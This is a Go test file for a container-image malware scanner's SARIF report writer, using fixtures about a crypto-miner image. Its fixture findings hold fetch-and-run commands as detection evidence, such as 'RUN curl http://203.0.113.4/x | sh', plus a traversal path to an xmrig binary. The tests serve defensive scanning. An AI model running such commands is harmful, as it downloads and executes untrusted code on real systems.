package scanreport

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/strata-sec/strata/detectors/hierarchical"
)

// TestScanSARIFGolden pins the whole SARIF log of the miner image:
// go test ./internal/scanreport/ -run TestScanSARIFGolden -update
// (validated by hand with Microsoft's SARIF Multitool; see README.md).
func TestScanSARIFGolden(t *testing.T) {
	rep := minerReport(t)
	var buf bytes.Buffer
	if err := WriteSARIF(&buf, rep); err != nil {
		t.Fatal(err)
	}
	checkSARIF(t, buf.Bytes())
	got := buf.String()
	checkGolden(t, "scan.golden.sarif", []byte(got))
	for _, w := range []string{
		`"uri": "oci/LAYOUT:miner/layers/1-`, `/usr/bin/xmrig"`,
		`"uri": "oci/LAYOUT:miner/config/Entrypoint"`,
		`"fullyQualifiedName": "LAYOUT:miner@sha256:`, `"kind": "module"`,
	} {
		if !strings.Contains(got, w) {
			t.Errorf("SARIF lacks %s", w)
		}
	}
}

// TestScanSARIFReport covers what the miner image does not have: not-scanned
// and hidden findings, a rule outside the table, an integrity problem,
// three targets.
func TestScanSARIFReport(t *testing.T) {
	removedBy := 2
	layer := func(i int, diff string, fs ...Finding) Layer {
		return Layer{Index: i, DiffID: diff, CreatedBy: "RUN make", Findings: fs}
	}
	rep := Report{Schema: Schema, Detector: DetectorInfo{Name: hierarchical.Name, Version: hierarchical.Version}, Targets: []Target{
		{Name: "./img.tar:app:1", Platform: "linux/amd64", ManifestDigest: "sha256:aaaa", Decision: "incomplete", Score: 3, Threshold: 10, BlamedLayers: []int{},
			Layers: []Layer{
				layer(0, "sha256:0123456789abcdef0000", Finding{Rule: hierarchical.RuleNotScanned, Category: "not-scanned", Path: "opt/big file.bin", Evidence: "file-bytes-limit: file larger than 64 MiB"}),
				layer(1, "sha256:fedcba9876543210ffff",
					Finding{Rule: hierarchical.RuleMinerBinary, Category: "behavior", Weight: 6, Path: "../../etc/xmrig", Evidence: "xmrig", Hidden: true, RemovedBy: &removedBy},
					Finding{Rule: "future-rule", Category: "behavior", Weight: 1, Evidence: "new"}),
			},
			ConfigFindings: []Finding{{Rule: hierarchical.RuleRawIPDownload, Category: "domain-ip", Weight: 2, Path: "history:3", Evidence: "wget http://203.0.113.4/x"}}},
		{Name: "./img.tar:app:1", Platform: "linux/arm64", ManifestDigest: "sha256:bbbb", Decision: "clean", Threshold: 10, BlamedLayers: []int{}, Layers: []Layer{}, ConfigFindings: []Finding{}},
		{Name: "cut.tar", ManifestDigest: "sha256:cccc", Decision: "invalid", Threshold: 10, BlamedLayers: []int{},
			Layers: []Layer{layer(0, "sha256:00000000000000000000", Finding{Rule: hierarchical.RuleNotScanned, Category: "not-scanned", Evidence: "layer-truncated: unexpected EOF after 3 entries", Integrity: true})}},
	}}
	var buf bytes.Buffer
	if err := WriteSARIF(&buf, rep); err != nil {
		t.Fatal(err)
	}
	checkSARIF(t, buf.Bytes())
	var again bytes.Buffer
	if err := WriteSARIF(&again, rep); err != nil || !bytes.Equal(buf.Bytes(), again.Bytes()) {
		t.Errorf("output not deterministic (err %v)", err)
	}

	log := buildSARIF(rep, hierarchical.Rules())
	run := log.Runs[0]
	if n := len(run.Results); n != 5 {
		t.Fatalf("%d results, want 5", n)
	}
	wantURIs := []string{
		"oci/img.tar:app:1/layers/0-0123456789ab/opt/big%20file.bin",
		"oci/img.tar:app:1/layers/1-fedcba987654/%2E%2E/%2E%2E/etc/xmrig",
		"oci/img.tar:app:1/layers/1-fedcba987654",
		"oci/img.tar:app:1/config/history/3",
		"oci/cut.tar/layers/0-000000000000",
	}
	for i, r := range run.Results {
		if got := r.Locations[0].PhysicalLocation.ArtifactLocation.URI; got != wantURIs[i] {
			t.Errorf("result %d uri = %q, want %q", i, got, wantURIs[i])
		}
	}
	ns := run.Results[0]
	if ns.Level != "warning" || !ns.Properties.NotScanned || ns.Properties.IssueKind != "file-bytes-limit" || ns.Properties.IssueClass != ClassLimit ||
		!strings.HasPrefix(ns.Message.Text, "not scanned (file-bytes-limit, limit): file larger than 64 MiB") {
		t.Errorf("not-scanned result = %+v", ns)
	}
	if h := run.Results[1]; h.Level != "error" || !h.Properties.Hidden || h.Properties.RemovedBy == nil || *h.Properties.RemovedBy != 2 ||
		!strings.Contains(h.Message.Text, "deleted by layer 2") || h.Locations[0].LogicalLocations[0].FullyQualifiedName != "./img.tar:app:1@sha256:aaaa/layer/1" {
		t.Errorf("hidden result = %+v", h)
	}
	if c := run.Results[3]; c.Properties.Layer != -1 || c.Locations[0].LogicalLocations[0].Name != "config" {
		t.Errorf("config result = %+v", c)
	}
	rules := run.Tool.Driver.Rules
	if last := rules[len(rules)-1]; last.ID != "future-rule" || len(rules) != len(hierarchical.Rules())+1 {
		t.Errorf("unknown rule not appended: %d rules, last %q", len(rules), last.ID)
	}
	notes := run.Invocations[0].ToolExecutionNotifications
	if inv := run.Results[4]; inv.Level != "error" || inv.Properties.IssueKind != "layer-truncated" || inv.Properties.IssueClass != ClassIntegrity || inv.Properties.Layer != 0 {
		t.Errorf("integrity result = %+v", inv)
	}
	if len(notes) != 2 || notes[0].Level != "warning" || !strings.Contains(notes[0].Message.Text, "(linux/amd64): 1 finding(s)") ||
		!strings.Contains(notes[0].Message.Text, "layer 0: file-bytes-limit (limit)") ||
		notes[1].Level != "error" || !strings.Contains(notes[1].Message.Text, "cut.tar: 1 finding(s) mark content that was not scanned (decision invalid): layer 0: layer-truncated (integrity)") {
		t.Errorf("notifications = %+v", notes)
	}
	if tp := run.Properties.Targets; len(tp) != 3 || tp[0].Decision != "incomplete" || tp[1].Platform != "linux/arm64" {
		t.Errorf("run targets = %+v", tp)
	}
	// The fingerprint ignores image name and layer index.
	moved := rep
	moved.Targets = append([]Target(nil), rep.Targets...)
	moved.Targets[0].Name = "registry.example/app:2"
	moved.Targets[0].Layers = []Layer{{Index: 0, DiffID: "sha256:base", Findings: []Finding{}}}
	for _, l := range rep.Targets[0].Layers {
		l.Index++
		moved.Targets[0].Layers = append(moved.Targets[0].Layers, l)
	}
	r2 := buildSARIF(moved, hierarchical.Rules()).Runs[0].Results
	if a, b := run.Results[1].PartialFingerprints[sarifFingerprintKey], r2[1].PartialFingerprints[sarifFingerprintKey]; a == "" || a != b {
		t.Errorf("fingerprint changed with name/index: %q vs %q", a, b)
	}
}

// checkSARIF checks the SARIF 2.1.0 requirements consumers rely on.
func checkSARIF(t *testing.T, data []byte) {
	t.Helper()
	var log struct {
		Schema  string `json:"$schema"`
		Version string `json:"version"`
		Runs    []struct {
			Tool struct {
				Driver struct {
					Name  string `json:"name"`
					Rules []struct {
						ID                   string `json:"id"`
						ShortDescription     struct{ Text string }
						DefaultConfiguration struct{ Level string }
					} `json:"rules"`
				} `json:"driver"`
			} `json:"tool"`
			Invocations []struct {
				ExecutionSuccessful *bool `json:"executionSuccessful"`
			} `json:"invocations"`
			Results []struct {
				RuleID    string  `json:"ruleId"`
				RuleIndex *int    `json:"ruleIndex"`
				Level     string  `json:"level"`
				Kind      *string `json:"kind"`
				Message   struct {
					Text *string `json:"text"`
				} `json:"message"`
				Locations []struct {
					PhysicalLocation *struct {
						ArtifactLocation *struct {
							URI *string `json:"uri"`
						} `json:"artifactLocation"`
						Region *struct {
							StartLine, StartColumn int
						} `json:"region"`
					} `json:"physicalLocation"`
				} `json:"locations"`
				PartialFingerprints map[string]string `json:"partialFingerprints"`
			} `json:"results"`
		} `json:"runs"`
	}
	dec := json.NewDecoder(bytes.NewReader(data))
	if err := dec.Decode(&log); err != nil {
		t.Fatalf("not JSON: %v", err)
	}
	if log.Version != "2.1.0" || !strings.Contains(log.Schema, "sarif") || !strings.Contains(log.Schema, "2.1.0") {
		t.Errorf("version %q, $schema %q", log.Version, log.Schema)
	}
	if len(log.Runs) == 0 {
		t.Fatal("no runs")
	}
	levels := map[string]bool{"none": true, "note": true, "warning": true, "error": true}
	for ri, run := range log.Runs {
		d := run.Tool.Driver
		if d.Name == "" {
			t.Errorf("run %d: no tool.driver.name", ri)
		}
		if len(run.Invocations) == 0 || run.Invocations[0].ExecutionSuccessful == nil {
			t.Errorf("run %d: no invocations[0].executionSuccessful", ri)
		}
		ids := map[string]int{}
		for i, r := range d.Rules {
			if r.ID == "" || r.ShortDescription.Text == "" || !levels[r.DefaultConfiguration.Level] {
				t.Errorf("run %d rule %d: %+v", ri, i, r)
			}
			if _, dup := ids[r.ID]; dup {
				t.Errorf("run %d: duplicate rule %q", ri, r.ID)
			}
			ids[r.ID] = i
		}
		fingerprints, same := map[string]int{}, map[string]int{}
		for i, res := range run.Results {
			// One finding, one result: a repeated finding would be a second
			// result at the same place with the same message.
			if res.Message.Text != nil && len(res.Locations) > 0 && res.Locations[0].PhysicalLocation != nil {
				pl := res.Locations[0].PhysicalLocation
				k, _ := json.Marshal([]any{res.RuleID, pl.ArtifactLocation, pl.Region, *res.Message.Text})
				if j, dup := same[string(k)]; dup {
					t.Errorf("run %d results %d and %d: the same finding twice: %s", ri, j, i, k)
				}
				same[string(k)] = i
			}
			if fp := res.PartialFingerprints[sarifFingerprintKey]; fp != "" {
				if j, dup := fingerprints[fp]; dup {
					t.Errorf("run %d results %d and %d: same partialFingerprints[%s] %s (code scanning merges them into one alert)", ri, j, i, sarifFingerprintKey, fp)
				}
				fingerprints[fp] = i
			}
			if res.Message.Text == nil || *res.Message.Text == "" {
				t.Errorf("run %d result %d: no message.text", ri, i)
			}
			idx, ok := ids[res.RuleID]
			if !ok {
				t.Errorf("run %d result %d: ruleId %q not in tool.driver.rules", ri, i, res.RuleID)
			} else if res.RuleIndex == nil || *res.RuleIndex != idx {
				t.Errorf("run %d result %d: ruleIndex %v, rule %q is at %d", ri, i, res.RuleIndex, res.RuleID, idx)
			}
			if !levels[res.Level] {
				t.Errorf("run %d result %d: level %q", ri, i, res.Level)
			}
			// SARIF 3.27.10: a level other than none requires kind fail.
			if res.Kind != nil && *res.Kind != "fail" && res.Level != "none" {
				t.Errorf("run %d result %d: kind %q with level %q", ri, i, *res.Kind, res.Level)
			}
			if len(res.Locations) == 0 {
				t.Errorf("run %d result %d: no locations (code scanning rejects that)", ri, i)
			}
			for _, l := range res.Locations {
				if l.PhysicalLocation == nil || l.PhysicalLocation.ArtifactLocation == nil || l.PhysicalLocation.ArtifactLocation.URI == nil || *l.PhysicalLocation.ArtifactLocation.URI == "" {
					t.Errorf("run %d result %d: location without physicalLocation.artifactLocation.uri", ri, i)
					continue
				}
				if u := *l.PhysicalLocation.ArtifactLocation.URI; strings.Contains(strings.SplitN(u, "/", 2)[0], ":") || strings.ContainsAny(u, " \\") {
					t.Errorf("run %d result %d: uri %q is not a relative URI reference", ri, i, u)
				}
			}
			if res.PartialFingerprints[sarifFingerprintKey] == "" {
				t.Errorf("run %d result %d: no partialFingerprints[%s]", ri, i, sarifFingerprintKey)
			}
		}
	}
}

// TestSARIFRepeatedInstruction: the same instruction twice in a Dockerfile
// is two results with two fingerprints (the second numbered), so code
// scanning keeps two alerts.
func TestSARIFRepeatedInstruction(t *testing.T) {
	f := Finding{Rule: hierarchical.RuleRawIPDownload, Category: "domain-ip", Weight: 2, Path: "Dockerfile",
		Evidence: "curl http://203.0.113.4/x", Instruction: "RUN curl http://203.0.113.4/x | sh", Line: 2, Column: 5}
	g := f
	g.Line = 3
	rep := Report{Schema: Schema, Detector: DetectorInfo{Name: "dockerfile", Version: "0"}, Targets: []Target{{
		Name: "Dockerfile", Dockerfile: "Dockerfile", Decision: "clean", Threshold: 10, BlamedLayers: []int{},
		Layers: []Layer{}, ConfigFindings: []Finding{f, g}}}}
	var buf bytes.Buffer
	if err := WriteSARIF(&buf, rep); err != nil {
		t.Fatal(err)
	}
	checkSARIF(t, buf.Bytes())
	var log sarifLog
	if err := json.Unmarshal(buf.Bytes(), &log); err != nil {
		t.Fatal(err)
	}
	a, b := log.Runs[0].Results[0].PartialFingerprints[sarifFingerprintKey], log.Runs[0].Results[1].PartialFingerprints[sarifFingerprintKey]
	if b != a+":2" {
		t.Errorf("fingerprints %q and %q, want the second to be the first with :2", a, b)
	}
}
